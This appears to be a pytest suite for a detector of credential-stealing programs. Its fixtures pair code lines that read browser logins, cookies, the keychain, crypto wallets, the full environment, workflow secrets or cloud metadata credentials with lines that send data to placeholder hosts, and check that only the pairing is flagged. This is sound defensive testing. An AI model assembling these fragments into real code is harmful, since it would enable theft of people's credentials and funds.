"""A program that names stores of secrets and sends something, in any language; and those that only look like it."""

from itertools import product

import pytest

from skillkit.security.hot import Words
from skillkit.security.scripts import harvest
from tests import hang


def gathered(text: str) -> harvest.Harvest | None:
    return harvest.found_in(text, Words(text))


STORES = {
    "what browsers keep of logins": [
        r"copy(profile + '\Login Data')",
        "open('~/.mozilla/firefox/a/key4.db')",
        "read('logins.json')",
        "path.join(root, 'Network/Cookies')",
        "jar = browser_cookie3.chrome()",
    ],
    "the keychain": ["cp ~/Library/Keychains/login.keychain-db /tmp/a", "run('security', 'dump-keychain', '-d')"],
    "wallets": [
        "read(home + '/.ethereum/keystore')",
        "open('wallet.dat')",
        "glob('Electrum/wallets/*')",
        "dir + 'nkbihfbeogaeaoehlefnkodbefgpgknn'",
    ],
    "the whole environment": [
        "all = ENV.to_h",
        "s = JSON.stringify(process.env)",
        "s = json.dumps(dict(os.environ))",
        's := strings.Join(os.Environ(), ",")',
        "let v: Vec<_> = std::env::vars().collect();",
        "$all = Get-ChildItem env: | Out-String",
        "$s = json_encode($_ENV);",
    ],
    "all secrets of the workflow": ["ALL: ${{ toJSON(secrets) }}"],
    "a password that a dialogue asks for": [
        'display dialog "Password" default answer "" with hidden answer',
        "pw=$(zenity --password --title Login)",
    ],
    "the machine's own credentials": [
        'base = "http://169.254.169.254/latest/"\nget(base + "meta-data/iam/security-credentials/")'
    ],
    "credentials of 3 services": ['for f in [".netrc", ".npmrc", ".pypirc"]: take(f)'],
}
SENDS = [
    "requests.post(TO, data=blob)",
    "req = urllib.request.Request(TO, blob)",
    "await fetch(TO, { method: 'POST', body })",
    "Net::HTTP.post(TO, blob)",
    'http.Post(TO, "text/plain", body)',
    "Invoke-RestMethod -Method Post -Uri $to -InFile $zip",
    "(New-Object Net.WebClient).UploadFile($to, $zip)",
    "ureq::post(TO).send_string(&blob)?;",
    "curl -s -T - https://reports.example.com/in",
    "curl_setopt($c, CURLOPT_POSTFIELDS, $blob);",
    "await client.PostAsync(to, content);",
    "Open3.capture2('gh', 'issue', 'create', '--body', blob)",
    "run(['git', 'push', remote])",
]


@pytest.mark.parametrize("what", STORES)
def test_a_store_and_a_request_that_carries_something_are_found_in_every_language(what):
    for store, send in product(STORES[what], SENDS):
        found = gathered(f"start()\n{store}\n{send}\n")
        assert found, (store, send)
        assert (found.what, found.offset > 0) == (what, True), (store, send)


@pytest.mark.parametrize("what", STORES)
def test_a_store_alone_is_not_found(what):
    for store in STORES[what]:
        assert not gathered(f"{store}\nprint(store)\n"), store


@pytest.mark.parametrize("send", SENDS)
def test_a_request_alone_is_not_found(send):
    assert not gathered(f"blob = read('report.json')\n{send}\n")


HONEST = {
    "the environment goes to a child": "run(cmd, env={**os.environ, 'A': '1'})\nrequests.post(TO, data=report)\n",
    "one value of it": "const key = process.env.API_KEY\nawait fetch(TO, { method: 'POST', headers: { key } })\n",
    "credentials of one service": "auth = netrc.netrc(home / '.netrc').hosts[HOST]\nrequests.post(TO, auth=auth)\n",
    "two that a release needs": "check('.npmrc'); check('.pypirc')\ngit push origin main\n",
    "a list of what is left out": "EXCLUDE = [\n  'Login Data',\n  'key4.db',\n]\nrequests.post(TO, data=tar())\n",
    "a line that leaves it out": "rsync -a --exclude wallet.dat ~/ backup@nas.example.com:home\n",
    "a comment": "# never read the Login Data of a browser\nrequests.post(TO, data=report)\n",
    "a request to this machine": "j = browser_cookie3.chrome()\nrequests.post('http://localhost:8080/in', data=j)\n",
    "a request that only asks": "open('wallet.dat')\nurllib.request.Request(URL, headers={'Accept': 'text/plain'})\n",
    "a machine's region": "b = 'http://169.254.169.254/latest/meta-data/placement/region'\nrequests.post(TO, data=b)\n",
}


@pytest.mark.parametrize("name", HONEST)
def test_what_an_honest_program_does_is_not_found(name):
    assert not gathered(HONEST[name])


def test_the_hosts_are_those_that_the_text_names():
    found = gathered("s = JSON.stringify(process.env)\nfetch('https://a.example.com/x', { method: 'POST' })\n")
    assert found
    assert found.hosts == ("a.example.com",)


PIECES = [
    "Login Data ",
    ".netrc .npmrc .pypirc ",
    "ENV.to_h[",
    "cookie curl -s ",
    "id.json Request(a,",
    "[({wallet.dat",
]


@pytest.mark.parametrize("piece", PIECES)
def test_a_long_text_takes_no_longer_than_its_length(piece):
    with hang.never():
        gathered(piece * (200_000 // len(piece)) + "\nrequests.post(TO, data=a)\n")
